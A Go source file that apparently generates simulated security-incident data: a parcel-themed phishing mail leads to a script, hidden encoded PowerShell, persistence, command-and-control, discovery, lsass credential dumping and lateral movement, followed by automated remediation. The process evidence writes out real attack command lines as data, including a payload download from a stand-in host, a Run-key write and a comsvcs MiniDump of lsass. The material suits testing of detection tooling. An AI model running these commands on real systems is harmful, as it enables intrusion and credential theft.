package sample

import "slices"

// phishingReachesComputer begins with a mail and ends on a server.
func phishingReachesComputer(x *script) {
	who, second, third, admin := x.person(), x.person(), x.person(), x.person()
	admin.account = "adm-" + x.word(1)
	laptop, server := x.computer("lt", "Windows11", "Laptops", who), x.computer("srv", "WindowsServer2022", "Servers", admin)
	laptop.risk = "high"
	site := "parcel-" + x.word(2) + ".example"
	lure := mail{key: x.key + "lure", subject: "Your parcel could not be delivered", language: "en", direction: "inbound", senderIP: "203.0.113.88",
		received: x.at(0), envelope: sender{"bounce@" + site, "", site}, from: sender{"service@" + site, "Parcel service", site},
		urls: []string{"https://" + site + "/track?id=" + x.hex(4)}, threats: []string{"Phish"}, methods: []string{"URL detonation reputation"}}
	copies := []mail{lure.copyTo(who).delivered("delivered", "inbox"), lure.copyTo(second).delivered("delivered", "inbox"),
		lure.copyTo(third).delivered("blocked", "quarantine")}

	in := x.incident(0, "Phish delivered to 3 mailboxes", "low", 95)
	in.priority = 18
	r := x.noted(95)
	delivered := x.alert("delivered", office365(), "Email messages with a phishing link delivered", "low", 0, 4, 95)
	delivered.description = "Messages with a link that leads to a copy of a parcel service's page were delivered -V1.0.0.4"
	delivered.actions = []string{"Look whether somebody followed the link.", "Take the messages out of the mailboxes."}
	delivered.categories, delivered.mitre = []string{"InitialAccess"}, []string{"T1566.002"}
	for _, m := range copies {
		delivered.evidence = append(delivered.evidence, m.evidence(r.suspicious("active")), mailbox(r, m.to))
	}
	delivered.evidence = append(delivered.evidence, link(r.suspicious("active"), lure.urls[0]), cluster(r, lure, copies), ip(r.suspicious("active"),
		lure.senderIP, nil))
	in.alerts = []alert{delivered}
	x.say(95, "A mail with a phishing link reached three mailboxes.", in)

	r = x.noted(240)
	click := x.alert("click", office365(), "A potentially malicious URL click was detected", "medium", 171, 171, 240)
	click.description, click.categories, click.mitre = "A user opened a link that was later judged malicious -V1.0.0.5", []string{"InitialAccess"},
		[]string{"T1566", "T1204.001"}
	click.actions = []string{"Ask the user what happened next."}
	click.evidence = []object{who.evidence(r.suspicious("active")), link(r.malicious("active"), lure.urls[0]), copies[0].evidence(r.malicious("active"))}
	in.name, in.severity, in.priority, in.systemTags = "Credential phish incident involving 3 users", "medium", 41, []string{"Credential Phish"}
	in.updated, in.alerts = x.at(240), append(in.alerts, click)
	x.say(240, "One of them clicked. The incident has another name and a higher severity.", in)

	explorer := x.explorer(laptop, who)
	host := explorer.child(9412, x.at(205), system32("wscript.exe", 208896), `wscript.exe "C:\Users\`+who.account+`\Downloads\Parcel label.js"`)
	shell := host.child(9768, x.at(207), file{folder: `C:\Windows\System32\WindowsPowerShell\v1.0`, name: "powershell.exe", size: 450560,
		publisher: "Microsoft Corporation"},
		`powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand `+encoded("iwr https://"+site+"/l.dll -OutFile $env:TEMP\\l.dll; rundll32 $env:TEMP\\l.dll,Run"))
	download := file{folder: `C:\Users\` + who.account + `\Downloads`, name: "Parcel label.js", size: 18233}
	r = x.noted(420)
	script := x.alert("script", endpoint(), "Script from a download started a hidden PowerShell", "high", 205, 207, 420)
	script.description = "A script that was just downloaded started PowerShell with a hidden window and an encoded command."
	script.actions = []string{"Decode the command.", "Isolate the device if the download succeeded."}
	script.categories, script.mitre = []string{"Execution"}, []string{"T1059.001", "T1059.007", "T1204.002"}
	script.evidence = []object{laptop.evidence(r.suspicious("active").primary()), who.evidence(r.suspicious("active")), host.evidence(r.suspicious("active")),
		shell.evidence(r.suspicious("active")), download.on(*laptop, r.suspicious("active"), "detected")}
	in.name, in.severity, in.priority = "Multi-stage incident involving Initial access & Execution on one endpoint", "high", 77
	in.updated, in.alerts = x.at(420), append(in.alerts, script)
	x.say(420, "A script ran on the laptop of the one who clicked.", in)

	library := file{folder: `C:\Users\` + who.account + `\AppData\Local\Temp`, name: "l.dll", size: 311296, content: x.key}
	loader := shell.child(10004, x.at(212), system32("rundll32.exe", 73728),
		`"C:\Windows\system32\rundll32.exe" C:\Users\`+who.account+`\AppData\Local\Temp\l.dll,Run`)
	implant := loader.child(10120, x.at(219), file{folder: `C:\ProgramData\Parcel`, name: "parcelsvc.exe", size: 842752, content: x.key},
		`C:\ProgramData\Parcel\parcelsvc.exe -q`)
	r = x.noted(540)
	late := &in.alerts[2]
	late.updated, late.last = x.at(540), x.at(219)
	late.evidence = append(slices.Clone(late.evidence), loader.evidence(r.suspicious("active")), implant.evidence(r.malicious("active")),
		library.on(*laptop, r.malicious("active"), "detected"),
		link(r.malicious("active"), "https://"+site+"/l.dll"))
	x.say(540, "More of what the script started is added to its alert; the incident itself does not change.", in)

	reg := implant.child(10388, x.at(590), system32("reg.exe", 77824),
		`reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Parcel /d C:\ProgramData\Parcel\parcelsvc.exe`)
	r = x.noted(700)
	stay := x.alert("run-key", endpoint(), "Program registered to start at sign-in", "medium", 590, 590, 700)
	stay.description, stay.actions = "A program outside the usual folders was written to a Run key.", []string{"Delete the value."}
	stay.categories, stay.mitre = []string{"Persistence"}, []string{"T1547.001"}
	stay.evidence = []object{laptop.evidence(r.suspicious("active").primary()), reg.evidence(r.suspicious("active")), implant.evidence(r.malicious("active")),
		registryValue(r.malicious("active").as("created"), *laptop, currentUser, `Software\Microsoft\Windows\CurrentVersion\Run`, "Parcel", "String",
			`C:\ProgramData\Parcel\parcelsvc.exe`)}
	in.updated, in.alerts = x.at(700), append(slices.Clone(in.alerts), stay)
	x.say(700, "The program made itself start at every sign-in.", in)

	r = x.noted(880)
	calls := x.alert("c2", endpoint(), "Regular connections to a command-and-control host", "high", 230, 860, 880)
	calls.description, calls.actions = "A program calls the same rare host again and again.", []string{"Block the host and its address."}
	calls.categories, calls.mitre = []string{"CommandAndControl"}, []string{"T1071.001"}
	calls.evidence = []object{laptop.evidence(r.suspicious("active").primary()), implant.evidence(r.malicious("active")),
		dns(r.malicious("active").as("commandAndControl"), "api."+site, "10.40.0.2", "203.0.113.91"),
		ip(r.malicious("active").as("commandAndControl"), "203.0.113.91", nil),
		connection(r.malicious("active").as("commandAndControl"), laptop.localIP, 51544, "203.0.113.91", 443, "tcp")}
	in.name, in.updated = "Multi-stage incident involving Initial access & Command and control on one endpoint", x.at(880)
	in.alerts = append(slices.Clone(in.alerts), calls)
	x.say(880, "It calls its masters.", in)

	console := implant.child(11200, x.at(905), system32("cmd.exe", 344064), `cmd.exe`)
	r = x.noted(1080)
	look := x.alert("discovery", endpoint(), "Series of discovery commands", "low", 905, 960, 1080)
	look.description,
		look.actions = "Within a minute one shell asked who the user is, who the administrators are, and which domains trust this one.", []string{"Check which answers came back."}
	look.categories, look.mitre = []string{"Discovery"}, []string{"T1033", "T1069.002", "T1482"}
	look.evidence = []object{laptop.evidence(r.suspicious("active").primary()), console.evidence(r.suspicious("active"))}
	for i, command := range []string{"whoami /all", "net group \"Domain Admins\" /domain", "nltest /domain_trusts", "net view /all"} {
		name := map[bool]string{true: "net.exe", false: "whoami.exe"}[command[:3] == "net"]
		if command[:3] == "nlt" {
			name = "nltest.exe"
		}
		look.evidence = append(look.evidence, console.child(int64(11240+8*i), x.at(910+float64(15*i)), system32(name, int64(60000+i)),
			command).evidence(r.suspicious("active")))
	}
	in.updated, in.alerts = x.at(1080), append(slices.Clone(in.alerts), look)
	x.say(1080, "Somebody looks around.", in)

	dumper := console.child(11620, x.at(1130), system32("rundll32.exe", 73728),
		`rundll32 C:\windows\system32\comsvcs.dll, MiniDump 712 C:\ProgramData\Parcel\p.bin full`)
	remote := (&process{device: server, user: system(), id: 3120, started: server.firstSeen, image: microsoft(`C:\Windows\System32\wbem`, "WmiPrvSE.exe", 536576)}).
		child(6604, x.at(1205), system32("cmd.exe", 344064), `cmd /c \\`+laptop.host+`\c$\ProgramData\Parcel\parcelsvc.exe -q`)
	r = x.noted(1260)
	keys := x.alert("lsass", endpoint(), "Memory of the sign-in process was written to disk", "high", 1130, 1205, 1260)
	keys.description = "A library of Windows copied the memory of lsass into a file. Minutes later an administrator's account started a command on a server."
	keys.actions = []string{"Isolate both devices.", "Disable the administrator's account."}
	keys.categories, keys.mitre = []string{"CredentialAccess", "LateralMovement"}, []string{"T1003.001", "T1047"}
	keys.evidence = []object{laptop.evidence(r.suspicious("active").primary()), dumper.evidence(r.malicious("active")),
		server.evidence(r.suspicious("active").as("destination")),
		admin.evidence(r.suspicious("active").as("compromised")), remote.evidence(r.malicious("active")),
		connection(r.suspicious("active"), laptop.localIP, 49877, server.localIP, 135, "tcp")}
	in.name, in.priority = "Multi-stage incident involving Initial access & Lateral movement on multiple endpoints", 93
	in.updated, in.alerts = x.at(1260), append(slices.Clone(in.alerts), keys)
	x.say(1260, "Passwords are taken, and a server is reached.", in)

	in.updated, in.status, in.alerts = x.at(1440), "inProgress", slices.Clone(in.alerts)
	for i := range in.alerts {
		if in.alerts[i].product == endpoint() {
			in.alerts[i].status, in.alerts[i].investigation, in.alerts[i].updated = "inProgress", "running", x.at(1440)
		}
	}
	x.say(1440, "Microsoft's own investigation begins.", in)

	in.updated, in.alerts = x.at(1620), slices.Clone(in.alerts)
	for i, a := range in.alerts {
		if a.product == endpoint() {
			in.alerts[i].evidence, in.alerts[i].investigation, in.alerts[i].updated = judged(a.evidence, "malicious", "remediated"),
				"partiallyRemediated", x.at(1620)
		}
	}
	in.alerts[2] = in.alerts[2].resolve(x.at(1620), "Automation", "successfullyRemediated")
	x.say(1620, "The investigation judges the evidence and removes what it can.", in)

	r = x.noted(1740)
	zap := x.alert("zap", office365(), "Email messages containing malicious URL removed after delivery", "informational", 1725, 1731, 1740)
	zap.description, zap.categories, zap.mitre = "Messages carrying a link judged malicious after delivery were taken out of mailboxes -V1.0.0.3",
		[]string{"InitialAccess"}, []string{"T1566.002"}
	for _, m := range copies[:2] {
		gone := m.delivered("blocked", "quarantine")
		gone.threats = append([]string{"ZapPhish"}, m.threats...)
		zap.evidence = append(zap.evidence, gone.evidence(r.malicious("remediated")), mailbox(r.suspicious("none"), m.to))
	}
	in.updated, in.alerts = x.at(1740), append(slices.Clone(in.alerts), zap.resolve(x.at(1740), "Automation", "successfullyRemediated"))
	x.say(1740, "The messages are taken out of the mailboxes.", in)
}
